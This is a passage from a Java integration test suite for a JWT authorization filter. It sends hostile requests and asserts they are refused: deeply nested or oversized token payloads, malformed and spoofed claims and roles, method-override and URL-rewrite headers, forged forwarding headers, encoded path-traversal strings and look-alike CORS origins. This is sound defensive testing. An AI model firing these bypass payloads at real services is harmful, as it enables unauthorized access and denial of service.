        cases.add(new Case("header nested 2500 arrays deep").bearer(jws("{\"alg\":\"HS256\",\"x\":"
                + "[".repeat(2500) + "]".repeat(2500) + "}", json(admin()), HS256)).refused(401, "malformed_token"));
        cases.add(new Case("payload nested 1100 objects deep").bearer(jws("{\"alg\":\"HS256\"}", "{\"sub\":\"root\",\"x\":"
                + "{\"\":".repeat(1100) + "1" + "}".repeat(1100) + "}", HS256)).refused(401, "malformed_token"));
        cases.add(new Case("a custom claim nested 100 deep in a genuine token: fine")
                .bearer(hs(with(admin(), "nested", "[".repeat(100) + "]".repeat(100)))).canary());
        for (String number : List.of("1e400", "-1e400", "123456789012345678901234567890", "1" + "0".repeat(1200))) {
            String shown = number.length() > 40 ? number.length() + "-digit number" : number;
            cases.add(new Case("exp " + shown).bearer(hs(with(admin(), "exp", number))).refused(401, "malformed_token"));
            cases.add(new Case("iat " + shown).bearer(hs(with(admin(), "iat", number))).refused(401, "malformed_token"));
        }
        cases.add(new Case("a custom claim 1e1000000000 (BigDecimal scale) in a genuine token")
                .bearer(hs(with(admin(), "n", "1e1000000000"))).canary().within(Duration.ofSeconds(5)));
        cases.add(new Case("a custom claim with 1200 digits in a genuine token")
                .bearer(hs(with(admin(), "n", "9".repeat(1200)))).refused(401, "malformed_token"));
        run("structure", cases);
    }

    @Test
    @Order(4)
    void claims() throws Exception {
        List<Case> cases = new ArrayList<>();
        long now = Instant.now().getEpochSecond();
        cases.add(new Case("exp missing").bearer(hs(without(admin(), "exp"))).refused(401, "missing_required_claim"));
        cases.add(new Case("exp null").bearer(hs(with(admin(), "exp", "null"))).refused(401, "missing_required_claim"));
        for (String exp : List.of("\"" + (now + 300) + "\"", "true", "[" + (now + 300) + "]", "{}", "\"tomorrow\"")) {
            cases.add(new Case("exp " + exp).bearer(hs(with(admin(), "exp", exp))).refused(401, "malformed_token"));
        }
        cases.add(new Case("exp far in the future (9999-12-31), iat fresh: within the maximum age")
                .bearer(hs(with(admin(), "exp", "253402300799"))).canary());
        cases.add(new Case("exp far in the future (9999-12-31), iat a day ago: over the maximum age")
                .bearer(hs(with(with(admin(), "exp", "253402300799"), "iat", Long.toString(now - 86_400))))
                .refused(401, "token_expired").descriptionContains("(iat)", "600s"));
        cases.add(new Case("exp beyond 9999").bearer(hs(with(admin(), "exp", "1000000000000"))).refused(401, "malformed_token"));
        cases.add(new Case("exp negative").bearer(hs(with(admin(), "exp", "-1"))).refused(401, "token_expired"));
        cases.add(new Case("exp zero").bearer(hs(with(admin(), "exp", "0"))).refused(401, "token_expired"));
        cases.add(new Case("exp an hour ago").bearer(hs(with(admin(), "exp", Long.toString(now - 3600))))
                .refused(401, "token_expired").descriptionContains("server time", "allowed skew 60s"));
        cases.add(new Case("nbf far in the future").bearer(hs(with(admin(), "nbf", "253402300799")))
                .refused(401, "token_not_yet_valid"));
        cases.add(new Case("nbf negative: in the past, fine").bearer(hs(with(admin(), "nbf", "-1"))).canary());
        cases.add(new Case("nbf a string").bearer(hs(with(admin(), "nbf", "\"" + now + "\""))).refused(401, "malformed_token"));
        cases.add(new Case("iat far in the future").bearer(hs(with(admin(), "iat", "253402300799")))
                .refused(401, "token_not_yet_valid"));
        cases.add(new Case("iat negative: older than the maximum age").bearer(hs(with(admin(), "iat", "-1")))
                .refused(401, "token_expired"));
        cases.add(new Case("iat a string").bearer(hs(with(admin(), "iat", "\"" + now + "\""))).refused(401, "malformed_token"));
        cases.add(new Case("iat boolean").bearer(hs(with(admin(), "iat", "false"))).refused(401, "malformed_token"));
        cases.add(new Case("iat missing, with a maximum age configured").bearer(hs(without(admin(), "iat")))
                .refused(401, "token_expired").descriptionContains("no 'iat'", "600s"));
        cases.add(new Case("iat 12 minutes ago, maximum age 10m plus 60s skew").bearer(hs(with(admin(), "iat",
                Long.toString(now - 720)))).refused(401, "token_expired").descriptionContains("(iat)", "600s"));
        cases.add(new Case("iat 9 minutes ago: within the maximum age").bearer(hs(with(admin(), "iat",
                Long.toString(now - 540)))).canary());

        Map<String, String[]> issuers = new LinkedHashMap<>();
        issuers.put("iss missing", null);
        issuers.put("iss null", new String[] {"null"});
        issuers.put("iss a number", new String[] {"42"});
        issuers.put("iss an array holding the issuer", new String[] {"[\"" + ISSUER + "\"]"});
        issuers.put("iss an object", new String[] {"{\"iss\":\"" + ISSUER + "\"}"});
        issuers.put("iss in upper case", new String[] {quote(ISSUER.toUpperCase(java.util.Locale.ROOT))});
        issuers.put("iss with a trailing slash", new String[] {quote(ISSUER + "/")});
        issuers.put("iss with a trailing space", new String[] {quote(ISSUER + " ")});
        issuers.put("iss as a prefix", new String[] {quote(ISSUER + ".attacker.test")});
        issuers.forEach((what, value) -> cases.add(new Case(what).bearer(hs(value == null ? without(admin(), "iss")
                : with(admin(), "iss", value[0]))).refused(401, "issuer_mismatch")));

        Map<String, String[]> audiences = new LinkedHashMap<>();
        audiences.put("aud missing", null);
        audiences.put("aud null", new String[] {"null"});
        audiences.put("aud empty array", new String[] {"[]"});
        audiences.put("aud a number", new String[] {"42"});
        audiences.put("aud an object", new String[] {"{\"aud\":\"" + AUDIENCE + "\"}"});
        audiences.put("aud an array of numbers", new String[] {"[42]"});
        audiences.put("aud with a trailing slash", new String[] {quote(AUDIENCE + "/")});
        audiences.put("aud in upper case", new String[] {quote(AUDIENCE.toUpperCase(java.util.Locale.ROOT))});
        audiences.forEach((what, value) -> cases.add(new Case(what).bearer(hs(value == null ? without(admin(), "aud")
                : with(admin(), "aud", value[0]))).refused(401, "audience_mismatch")));
        cases.add(new Case("aud an array of arrays: java-jwt cannot read it").bearer(hs(with(admin(), "aud",
                "[[\"" + AUDIENCE + "\"]]"))).refused(401, "malformed_token"));
        cases.add(new Case("aud an array that names this API among others").bearer(hs(with(admin(), "aud",
                "[\"another-api\",\"" + AUDIENCE + "\"]"))).canary());

        Map<String, String[]> subjects = new LinkedHashMap<>();
        subjects.put("sub missing", null);
        subjects.put("sub null", new String[] {"null"});
        subjects.put("sub empty", new String[] {"\"\""});
        subjects.put("sub blank", new String[] {"\"   \""});
        subjects.put("sub an array", new String[] {"[\"root\"]"});
        subjects.forEach((what, value) -> cases.add(new Case(what).bearer(hs(value == null ? without(admin(), "sub")
                : with(admin(), "sub", value[0]))).refused(401, "missing_required_claim")));
        // java-jwt reads a number where a string belongs as its text; the issuer signed it, so it is the right token.
        cases.add(new Case("sub a number, signed by the issuer: read as its text").bearer(hs(with(admin(), "sub", "42")))
                .canary().check("the caller is named by the number's text", (softly, reply) ->
                        softly.assertThat(reply.body()).endsWith(" for 42")));
        run("claims", cases);
    }

    @Test
    @Order(5)
    void roles() throws Exception {
        List<Case> cases = new ArrayList<>();
        Map<String, String> wrong = new LinkedHashMap<>();
        wrong.put("lower case", "[\"admin\"]");
        wrong.put("upper case", "[\"ADMIN\"]");
        wrong.put("leading space", "[\" Admin\"]");
        wrong.put("trailing space", "[\"Admin \"]");
        wrong.put("ROLE_ prefix", "[\"ROLE_Admin\"]");
        wrong.put("a prefix of it", "[\"Adm\"]");
        wrong.put("it as a prefix", "[\"Admins\"]");
        wrong.put("a comma string in an array", "[\"User,Admin\"]");
        wrong.put("a comma string", "\"User,Admin\"");
        wrong.put("a space-separated string", "\"User Admin\"");
        wrong.put("a Cyrillic look-alike", "[\"\\u0410dmin\"]");
        wrong.put("with a NUL", "[\"Admin\\u0000\"]");
        wrong.put("a nested array", "[[\"Admin\"]]");
        wrong.put("an object in an array", "[{\"name\":\"Admin\"}]");
        wrong.put("an object", "{\"Admin\":true}");
        wrong.put("a boolean", "true");
        wrong.put("a number", "1");
        wrong.put("null", "null");
        wrong.put("an empty array", "[]");
        wrong.forEach((what, roles) -> cases.add(new Case("roles " + what).bearer(hs(with(admin(), "roles", roles)))
                .refused(403, "insufficient_role")));
        Map<String, String> elsewhere = new LinkedHashMap<>();
        elsewhere.put("role", "\"Admin\"");
        elsewhere.put("groups", "[\"Admin\"]");
        elsewhere.put("realm_access", "{\"roles\":[\"Admin\"]}");
        elsewhere.put("scope", "\"Admin\"");
        elsewhere.put("scp", "[\"Admin\"]");
        elsewhere.put("Roles", "[\"Admin\"]");
        elsewhere.forEach((claim, value) -> cases.add(new Case("Admin in '" + claim + "' instead of 'roles'")
                .bearer(hs(with(without(admin(), "roles"), claim, value))).refused(403, "insufficient_role")));
        cases.add(new Case("control: roles [\"Admin\"]").bearer(hs(admin())).canary());
        cases.add(new Case("control: roles \"Admin\" as a single string").bearer(hs(with(admin(), "roles", "\"Admin\"")))
                .canary());
        cases.add(new Case("control: Admin among other roles").bearer(hs(with(admin(), "roles", "[\"User\",\"Admin\"]")))
                .canary());
        Map<String, String> departments = new LinkedHashMap<>();
        departments.put("department Finance (case)", "\"Finance\"");
        departments.put("department 'finance ' (space)", "\"finance \"");
        departments.put("department a number", "1");
        departments.put("department an object", "{\"name\":\"finance\"}");
        departments.forEach((what, value) -> cases.add(new Case("policy ReportReaders: " + what).path("api/reports")
                .bearer(hs(with(claims("fred", "[\"User\"]"), "department", value))).refused(403, "policy_failed")));
        cases.add(new Case("policy ReportReaders: role auditor (case)").path("api/reports")
                .bearer(hs(claims("fred", "[\"auditor\"]"))).refused(403, "policy_failed"));
        cases.add(new Case("policy ReportReaders: department [\"finance\"] (an array matches by element)")
                .path("api/reports").bearer(hs(with(claims("fred", "[\"User\"]"), "department", "[\"finance\"]")))
                .open("q3-revenue.pdf"));
        run("roles", cases);
    }

    @Test
    @Order(6)
    void http() throws Exception {
        List<Case> cases = new ArrayList<>();
        String admin = hs(admin());
        String user = hs(claims("bob", "[\"User\"]"));
        for (String header : List.of("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")) {
            cases.add(new Case("DELETE with " + header + ": GET").method("DELETE").path("methods").header(header, "GET")
                    .refused(401, "missing_token"));
            cases.add(new Case("POST with " + header + ": GET").method("POST").path("methods").header(header, "GET")
                    .refused(401, "missing_token"));
            cases.add(new Case("GET with " + header + ": DELETE stays a GET").path("methods").header(header, "DELETE")
                    .open("open GET"));
        }
        cases.add(new Case("POST with _method=GET in the query").method("POST").path("methods?_method=GET")
                .refused(401, "missing_token"));
        cases.add(new Case("unknown method BREW").method("BREW").path("methods").refused(401, "missing_token"));
        cases.add(new Case("unknown method BREW as User").method("BREW").path("methods").bearer(user)
                .refused(403, "insufficient_role"));
        cases.add(new Case("PROPFIND").method("PROPFIND").path("canary").refused(401, "missing_token"));
        cases.add(new Case("lower-case get is not GET").method("get").path("methods").refused(401, "missing_token"));
        cases.add(new Case("PATCH, which the servlet does not override").method("PATCH").path("methods")
                .refused(401, "missing_token"));
        // Jetty's default descriptor forbids TRACE (a security constraint: 403) before any filter runs.
        cases.add(new Case("TRACE").method("TRACE").path("canary").refused(403, null));
        cases.add(new Case("TRACE on the servlet with an open GET").method("TRACE").path("methods").refused(403, null));
        cases.add(new Case("TRACE as Admin").method("TRACE").path("canary").bearer(admin).refused(403, null));
        cases.add(new Case("HEAD").method("HEAD").path("canary").head().refused(401, "missing_token"));
        cases.add(new Case("OPTIONS without Origin").method("OPTIONS").path("canary").refused(401, "missing_token"));
        cases.add(new Case("OPTIONS with Origin but no Access-Control-Request-Method").method("OPTIONS").path("canary")
                .header("Origin", APP).refused(401, "missing_token").allowOrigin(APP));
        cases.add(new Case("OPTIONS with Access-Control-Request-Method but no Origin").method("OPTIONS").path("canary")
                .header("Access-Control-Request-Method", "GET").refused(401, "missing_token"));
        for (String header : List.of("X-Original-URL", "X-Rewrite-URL", "X-Override-URL", "X-Forwarded-Uri",
                "X-Forwarded-Prefix", "X-Forwarded-Path", "X-Envoy-Original-Path")) {
            cases.add(new Case("open servlet with " + header + ": /canary").path("dispatch/x").header(header, "/" + HS + "/canary")
                    .open("open"));
            cases.add(new Case("/canary with " + header + ": /dispatch/x").path("canary").header(header, "/" + HS + "/dispatch/x")
                    .refused(401, "missing_token"));
        }
        Map<String, String> forwarded = new LinkedHashMap<>();
        forwarded.put("X-Forwarded-For", "127.0.0.1");
        forwarded.put("X-Forwarded-Host", "localhost");
        forwarded.put("X-Forwarded-Proto", "https");
        forwarded.put("X-Forwarded-Port", "443");
        forwarded.put("X-Forwarded-Server", "internal");
        forwarded.put("Forwarded", "for=127.0.0.1;proto=https;host=localhost");
        forwarded.put("X-Real-IP", "127.0.0.1");
        forwarded.put("X-Remote-User", "root");
        forwarded.put("X-Forwarded-User", "root");
        forwarded.put("X-Authenticated-User", "root");
        forwarded.forEach((header, value) -> cases.add(new Case("/canary with " + header + ": " + value).path("canary")
                .header(header, value).refused(401, "missing_token")));
        cases.add(new Case("two Authorization headers, both Admin").header("Authorization", "Bearer " + admin)
                .header("Authorization", "Bearer " + admin).sent(admin).refused(400, "malformed_authorization_header"));
        cases.add(new Case("two Authorization headers, Admin and garbage").header("Authorization", "Bearer " + admin)
                .header("Authorization", "Bearer x").sent(admin).refused(400, "malformed_authorization_header"));
        cases.add(new Case("two Authorization headers, Basic and Admin").header("Authorization", "Basic YTpi")
                .header("Authorization", "Bearer " + admin).sent(admin).refused(400, "malformed_authorization_header"));
        cases.add(new Case("two Bearer tokens in one header").header("Authorization", "Bearer " + user + ", Bearer " + admin)
                .sent(admin).sent(user).refused(400, "malformed_authorization_header"));
        cases.add(new Case("the token twice after Bearer").header("Authorization", "Bearer " + admin + " " + admin)
                .sent(admin).refused(400, "malformed_authorization_header"));
        cases.add(new Case("Bearer with nothing after it").header("Authorization", "Bearer").refused(400,
                "malformed_authorization_header"));
        cases.add(new Case("Bearer: with a colon").header("Authorization", "Bearer:" + admin).sent(admin)
                .refused(400, "malformed_authorization_header"));
        cases.add(new Case("the token in quotes").header("Authorization", "Bearer \"" + admin + "\"").sent(admin)
                .refused(400, "malformed_authorization_header"));
        cases.add(new Case("the token without a scheme").header("Authorization", admin).sent(admin)
                .refused(401, "unsupported_scheme"));
        cases.add(new Case("Basic credentials").header("Authorization", "Basic cm9vdDpyb290").refused(401, "unsupported_scheme"));
        cases.add(new Case("Token scheme with the Admin token").header("Authorization", "Token " + admin).sent(admin)
                .refused(401, "unsupported_scheme"));
        // DPoP is allowed by default: the scheme is read, and a token bound to no key cannot use it.
        cases.add(new Case("DPoP scheme with the Admin token").header("Authorization", "DPoP " + admin).sent(admin)
                .refused(401, "dpop_token_not_bound"));
        cases.add(new Case("scheme in lower case (RFC 9110: case-insensitive)").header("Authorization", "bearer " + admin)
                .sent(admin).canary());
        cases.add(new Case("scheme in upper case").header("Authorization", "BEARER " + admin).sent(admin).canary());
        cases.add(new Case("token in the query (access_token)").path("canary?access_token=" + admin).sent(admin)
                .refused(401, "missing_token"));
        cases.add(new Case("token in the query, on a GET with a form content type").path("canary?access_token=" + admin)
                .header("Content-Type", "application/x-www-form-urlencoded").sent(admin).refused(401, "missing_token"));
        cases.add(new Case("token in a form body (access_token)").method("POST").path("canary")
                .header("Content-Type", "application/x-www-form-urlencoded").body("access_token=" + admin).sent(admin)
                .refused(401, "missing_token"));
        cases.add(new Case("token in a JSON body").method("POST").path("canary").header("Content-Type", "application/json")
                .body("{\"access_token\":\"" + admin + "\"}").sent(admin).refused(401, "missing_token"));
        cases.add(new Case("token in a path parameter").path("canary;access_token=" + admin).sent(admin)
                .refused(401, "missing_token"));
        String shortToken = jws("{\"alg\":\"HS256\"}", "{\"sub\":\"root\",\"exp\":" + (Instant.now().getEpochSecond() + 300)
                + "}", HS256);
        cases.add(new Case("a short token in a path parameter").path("canary;access_token=" + shortToken).sent(shortToken)
                .refused(401, "missing_token"));
        String session = b64(new byte[24]).replace('A', 'S') + "x".repeat(10);
        cases.add(new Case("a session id in a path parameter").path("canary;jsessionid=" + session).sent(session)
                .refused(401, "missing_token"));
        cases.add(new Case("token in a cookie (no cookie configured)").header("Cookie", "access_token=" + admin).sent(admin)
                .refused(401, "missing_token"));
        for (String header : List.of("X-Access-Token", "X-Auth-Token", "X-Authorization", "Proxy-Authorization",
                "X-Forwarded-Authorization", "Authentication")) {
            cases.add(new Case("token in " + header).header(header, "Bearer " + admin).sent(admin)
                    .refused(401, "missing_token"));
        }
        run("http", cases);
    }

    @Test
    @Order(7)
    void dispatchesAndPaths() throws Exception {
        List<Case> cases = new ArrayList<>();
        String admin = hs(admin());
        String user = hs(claims("bob", "[\"User\"]"));
        String expired = hs(with(with(admin(), "iat", Long.toString(Instant.now().getEpochSecond() - 600)),
                "exp", Long.toString(Instant.now().getEpochSecond() - 300)));
        cases.add(new Case("REQUEST to the canary without a token").refused(401, "missing_token"));
        cases.add(new Case("REQUEST to the canary as User").bearer(user).refused(403, "insufficient_role"));
        cases.add(new Case("FORWARD from an open servlet, no token").path("dispatch/forward").refused(401, "missing_token"));
        cases.add(new Case("FORWARD from an open servlet, User").path("dispatch/forward").bearer(user)
                .refused(403, "insufficient_role"));
        cases.add(new Case("FORWARD from an open servlet, expired token: the target reports it")
                .path("dispatch/forward").bearer(expired).refused(401, "token_expired"));
        cases.add(new Case("FORWARD from an open servlet, Admin").path("dispatch/forward").bearer(admin).canary());
        cases.add(new Case("INCLUDE from an open servlet, no token: left out").path("dispatch/include")
                .open("before||after"));
        cases.add(new Case("INCLUDE from an open servlet, User: left out").path("dispatch/include").bearer(user)
                .open("before||after"));
        cases.add(new Case("INCLUDE from an open servlet, Admin").path("dispatch/include").bearer(admin).canary());
        cases.add(new Case("ASYNC dispatch from an open servlet, no token").path("dispatch/async")
                .refused(401, "missing_token"));
        cases.add(new Case("ASYNC dispatch from an open servlet, User").path("dispatch/async").bearer(user)
                .refused(403, "insufficient_role"));
        cases.add(new Case("named FORWARD, no token").path("dispatch/named-forward").refused(401, "missing_token"));
        cases.add(new Case("named FORWARD, User").path("dispatch/named-forward").bearer(user)
                .refused(403, "insufficient_role"));
        cases.add(new Case("named FORWARD, Admin").path("dispatch/named-forward").bearer(admin).canary());
        cases.add(new Case("named INCLUDE, no token: left out").path("dispatch/named-include").open("before||after"));
        cases.add(new Case("named INCLUDE, User: left out").path("dispatch/named-include").bearer(user)
                .open("before||after"));
        cases.add(new Case("ERROR dispatch to the canary as error page, no token").path("dispatch/teapot")
                .refused(401, "missing_token"));
        cases.add(new Case("ERROR dispatch to the canary as error page, User").path("dispatch/teapot").bearer(user)
                .refused(403, "insufficient_role"));
        cases.add(new Case("ERROR dispatch to an open error page").path("dispatch/missing").refused(404, null)
                .check("the open error page renders", (softly, reply) -> softly.assertThat(reply.body())
                        .isEqualTo("error page for 404")));

        // The authorization issue's path tricks. Each either reaches the canary's rule (401 / 403), or another
        // servlet's: Jetty's default servlet under the fallback rule (401 / 404), or the open dispatch servlet
        // (200 "open"); or Jetty refuses the ambiguous URI itself (400). Never the canary.
        Map<String, int[]> paths = new LinkedHashMap<>();
        for (String path : List.of("canary;", "canary;x=1", "canary;jsessionid=1", "%63anary", "%63%61%6e%61%72%79",
                "./canary", "dispatch/../canary", "error-page/../canary", "canary?x=/dispatch", "canary#x")) {
            paths.put(path, new int[] {401, 403});
        }
        for (String path : List.of("canary/", "canary/.", "canary/./", "canary%3b", "CANARY", "Canary", "canary%20",
                "canary.json")) {
            paths.put(path, new int[] {401, 404});
        }
        paths.put("dispatch;/../canary", new int[] {200, 200});
        for (String path : List.of("dispatch/%2e%2e/canary", "dispatch/%2E%2E/canary", "dispatch/..;/canary", "%2e/canary",
                "canary/%2e", "canary//", "canary%2f", "canary%2F", "dispatch/%252e%252e/canary", ";/canary", "canary%00",
                "dispatch//..//canary", "dispatch/..%2fcanary", "dispatch/%2e%2e%2fcanary", "canary%5c",
                "dispatch/..%5ccanary")) {
            paths.put(path, new int[] {400, 400});
        }
        paths.forEach((path, statuses) -> {
            Case anonymous = new Case("path " + path + ", no token").path(path);
            Case asUser = new Case("path " + path + ", User").path(path).bearer(user);
            if (statuses[0] == 200) {
                anonymous.open("open");
                asUser.open("open");
            } else {
                anonymous.refused(statuses[0], reasonFor(statuses[0], false));
                asUser.refused(statuses[1], reasonFor(statuses[1], true));
            }
            cases.add(anonymous);
            cases.add(asUser);
        });
        run("dispatch", cases);
    }

    @Test
    @Order(8)
    void cors() throws Exception {
        List<Case> cases = new ArrayList<>();
        String admin = hs(admin());
        for (String origin : List.of(APP, "https://a.partner.test", "https://a.b.partner.test")) {
            cases.add(preflight("preflight from allowed " + origin, origin).refused(204, null).allowOrigin(origin)
                    .check("credentials allowed for a listed origin", (softly, reply) -> softly.assertThat(
                            reply.header("access-control-allow-credentials")).isEqualTo("true")));
        }
        Map<String, String> refused = new LinkedHashMap<>();
        refused.put("another site", "https://attacker.test");
        refused.put("null (sandboxed frames, file: pages)", "null");
        refused.put("allowed origin as a prefix", APP + ".attacker.test");
        refused.put("allowed origin as a suffix", "https://attackerapp.example.test");
        refused.put("allowed origin plus a character", APP + "x");
        refused.put("unescaped dot look-alike", "https://app-example.test");
        refused.put("unescaped dot look-alike 2", "https://appxexample.test");
        refused.put("http instead of https", "http://app.example.test");
        refused.put("another port", APP + ":8443");
        refused.put("the default port written out", APP + ":443");
        refused.put("upper case", "https://APP.example.test");
        refused.put("a trailing slash", APP + "/");
        refused.put("a path", APP + "/callback");
        refused.put("userinfo", "https://app.example.test@attacker.test");
        refused.put("a wildcard", "*");
        refused.put("pattern apex", "https://partner.test");
        refused.put("pattern look-alike", "https://attackerpartner.test");
        refused.put("pattern with a suffix", "https://a.partner.test.attacker.test");
        refused.put("pattern with an empty label", "https://a..partner.test");
        refused.put("pattern over http", "http://a.partner.test");
        refused.put("pattern on another port", "https://a.partner.test:8443");
        refused.put("the pattern itself", "https://*.partner.test");
        refused.put("an underscore label", "https://a_b.partner.test");
        refused.put("empty", "");
        refused.forEach((what, origin) -> cases.add(preflight("preflight from " + what, origin)
                .refused(403, "cors_origin_not_allowed").allowOrigin(null)));
        cases.add(new Case("preflight with two Origin headers, both allowed").method("OPTIONS")
                .header("Origin", APP).header("Origin", APP).header("Access-Control-Request-Method", "GET")
                .refused(403, "cors_origin_not_allowed").allowOrigin(null));
        cases.add(new Case("preflight with two Origin headers, allowed and not").method("OPTIONS")
                .header("Origin", APP).header("Origin", "https://attacker.test").header("Access-Control-Request-Method", "GET")
                .refused(403, "cors_origin_not_allowed").allowOrigin(null));
        cases.add(preflight("preflight for PROPFIND", APP).header("Access-Control-Request-Method", "PROPFIND", true)
                .refused(403, "cors_method_not_allowed").allowOrigin(null));
        cases.add(preflight("preflight for get in lower case", APP).header("Access-Control-Request-Method", "get", true)
                .refused(403, "cors_method_not_allowed").allowOrigin(null));
        cases.add(preflight("preflight for a header not allowed", APP).header("Access-Control-Request-Headers",
                "authorization, x-debug", true).refused(403, "cors_header_not_allowed").allowOrigin(null));
        cases.add(preflight("preflight carrying an Admin token: still answered by CORS alone", APP).bearer(admin)
                .refused(204, null).allowOrigin(APP));

        cases.add(new Case("actual request from the allowed origin, no token").header("Origin", APP)
                .refused(401, "missing_token").allowOrigin(APP).check("the browser may read the challenge",
                        (softly, reply) -> softly.assertThat(reply.header("access-control-expose-headers"))
                                .contains("WWW-Authenticate")));
        cases.add(new Case("actual request from another site, no token").header("Origin", "https://attacker.test")
                .refused(401, "missing_token").allowOrigin(null));
        cases.add(new Case("actual request from another site with the Admin token: answered, not readable")
                .header("Origin", "https://attacker.test").bearer(admin).canary().allowOrigin(null)
                .check("no credentials header for another site", (softly, reply) -> softly.assertThat(
                        reply.header("access-control-allow-credentials")).isNull()));
        cases.add(new Case("actual request from null with the Admin token: not readable").header("Origin", "null")
                .bearer(admin).canary().allowOrigin(null));
        cases.add(new Case("actual request with two Origin headers: not readable").header("Origin", APP)
                .header("Origin", "https://attacker.test").bearer(admin).canary().allowOrigin(null));
        cases.add(new Case("actual request from the allowed origin with credentials").header("Origin", APP).bearer(admin)
                .canary().allowOrigin(APP).check("credentials, exact origin, Vary", (softly, reply) -> {
                    softly.assertThat(reply.header("access-control-allow-credentials")).isEqualTo("true");
                    softly.assertThat(String.join(",", reply.all("vary"))).contains("Origin");
                }));
        // CORS off: the preflight's own reason (a preflight never carries a token), not missing_token's advice.
        cases.add(new Case("CORS off: no Access-Control header at all, even for a preflight").on(TYPED).method("OPTIONS")
                .header("Origin", APP).header("Access-Control-Request-Method", "GET").refused(403, "cors_disabled")
                .allowOrigin(null));
        run("cors", cases);
    }

    @Test
    @Order(100)
    void theLogHoldsNoTokenNoSecretAndNoStackTrace() {
        Assumptions.assumeTrue(CASES.get() > 0, "checks the log the case tables left");
        List<LogRecord> records;
        synchronized (LOG) {
            records = List.copyOf(LOG);
        }
        List<String> refusals = records.stream().map(LogRecord::getMessage).filter(m -> m.startsWith("JwtGuard refused"))
                .toList();
        assertThat(refusals).as("the refusals were captured, so the checks below check something")
                .isNotEmpty().anySatisfy(line -> assertThat(line).contains("token=sha256:"));
        assertThat(records).as("@AllowAnonymous logs the failures it ignores, at debug level")
                .anySatisfy(r -> assertThat(r.getMessage()).contains("through anonymously"));
        List<String> tokens;
        synchronized (SENT) {
            tokens = SENT.stream().filter(token -> token.length() > 40).toList();
        }
        assertThat(tokens).isNotEmpty();
        SoftAssertions softly = new SoftAssertions();
        for (LogRecord record : records) {
            String message = String.valueOf(record.getMessage());
            softly.assertThat(record.getThrown()).as("a stack trace logged with: " + message).isNull();
            softly.assertThat(message).as("log line").doesNotContain(SECRET).doesNotContain("\tat ")
                    .doesNotContain("Exception");
            for (String token : tokens) {
                if (message.contains(token)) {
                    softly.fail("a whole token is in the log: " + message.substring(0, Math.min(200, message.length())));
                }
            }
        }
        softly.assertAll();
    }

    @AfterAll
    static void report() {
        JWTGUARD_LOGGER.removeHandler(CAPTURE);
        JWTGUARD_LOGGER.setLevel(PREVIOUS_LEVEL);
        ISSUER_KEYS.close();
        ATTACKER.close();
        System.out.println("SecurityIT: " + CASES.get() + " hostile cases, " + FAILURES.get() + " failures");
    }

    // --- running a case ---

    private void run(String group, List<Case> cases) throws Exception {
        SoftAssertions softly = new SoftAssertions();
        for (Case c : cases) {
            int errors = softly.errorsCollected().size();
            String id = group + ": " + c.name;
            long started = System.nanoTime();
            Reply reply;
            try {
                reply = send(c);
            } catch (IOException e) {
                softly.fail(id + ": the request failed: " + e);
                CASES.incrementAndGet();
                FAILURES.incrementAndGet();
                continue;
            }
            Duration took = Duration.ofNanos(System.nanoTime() - started);
            if (PRINT_CASES) {
                System.out.println("SecurityIT case " + id + " -> " + reply.status() + " " + reply.reason());
            }
            verify(softly, id, c, reply, took);
            CASES.incrementAndGet();
            if (softly.errorsCollected().size() > errors) {
                FAILURES.incrementAndGet();
            }
        }
        softly.assertAll();
    }

    private Reply send(Case c) throws IOException, InterruptedException {
        SENT.addAll(c.sent);
        URL base = base(c.deployment);
        if (c.raw != null) {
            return Reply.raw(base, c.raw);
        }
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + c.path)).timeout(Duration.ofSeconds(10))
                .method(c.method, c.body == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofString(c.body));
        for (String[] header : c.headers) {
            request.header(header[0], header[1]);
        }
        try {
            return Reply.of(Http.send(request));
        } catch (IOException staleConnection) {
            // A refusal leaves a request body unread, so the server closes that connection after answering; a
            // pooled keep-alive connection can be handed out just before the client notices. Any HTTP client
            // retries that once on a new connection; the answer under test is the second one.
            if (!String.valueOf(staleConnection.getMessage()).contains("received no bytes")) {
                throw staleConnection;
            }
            return Reply.of(Http.send(request));
        }
    }

    private static void verify(SoftAssertions softly, String id, Case c, Reply reply, Duration took) {
        softly.assertThat(reply.status()).as(id + ": never a 500 (" + reply + ")").isNotEqualTo(500);
        softly.assertThat(reply.status()).as(id + ": status (" + reply + ")").isEqualTo(c.status);
        if (!c.head) {
            softly.assertThat(reply.reason()).as(id + ": reason (" + reply + ")").isEqualTo(c.reason);
            if (c.reason != null) {
                softly.assertThat(reply.problemStatus()).as(id + ": the problem's status").isEqualTo(c.status);
            }
        }
        String challenge = reply.header("www-authenticate");
        String error = c.reason == null ? null : switch (c.reason) {
            case "missing_token", "unsupported_scheme" -> "";
            case "malformed_authorization_header" -> "invalid_request";
            case "insufficient_role", "policy_failed" -> "insufficient_scope";
            default -> c.reason.startsWith("cors_") ? null : "invalid_token";
        };
        if (error == null) {
            softly.assertThat(challenge).as(id + ": no challenge").isNull();
        } else if (error.isEmpty()) {
            softly.assertThat(challenge).as(id + ": a bare challenge (RFC 6750 3.1)").isEqualTo("Bearer realm=\"" + REALM + "\"");
        } else if (c.reason.startsWith("dpop_")) {
            // RFC 9449 §7.1: a DPoP challenge, its algorithms before the error.
            softly.assertThat(challenge).as(id + ": challenge").startsWith("DPoP realm=\"" + REALM + "\", algs=\"")
                    .contains(", error=\"" + error + "\", error_description=\"").endsWith("\", reason=\"" + c.reason + "\"");
        } else {
            softly.assertThat(challenge).as(id + ": challenge")
                    .startsWith("Bearer realm=\"" + REALM + "\", error=\"" + error + "\", error_description=\"")
                    .endsWith("\", reason=\"" + c.reason + "\"");
            for (String fragment : c.description) {
                softly.assertThat(challenge).as(id + ": description").contains(fragment);
            }
        }
        if (c.canary) {
            softly.assertThat(reply.body()).as(id + ": the right token reaches the canary").contains(Canary.BODY);
        } else {
            softly.assertThat(reply.body()).as(id + ": no canary without the right token").doesNotContain(Canary.BODY);
        }
        if (c.openBody != null) {
            softly.assertThat(reply.body()).as(id + ": the open servlet's answer").contains(c.openBody);
        }
        if (c.checkOrigin) {
            softly.assertThat(reply.header("access-control-allow-origin")).as(id + ": Access-Control-Allow-Origin")
                    .isEqualTo(c.allowOrigin);
        }
        softly.assertThat(reply.toString()).as(id + ": the secret never leaves").doesNotContain(SECRET);
        softly.assertThat(took).as(id + ": answered promptly").isLessThan(c.within);
        for (Map.Entry<String, BiConsumer<SoftAssertions, Reply>> check : c.checks.entrySet()) {
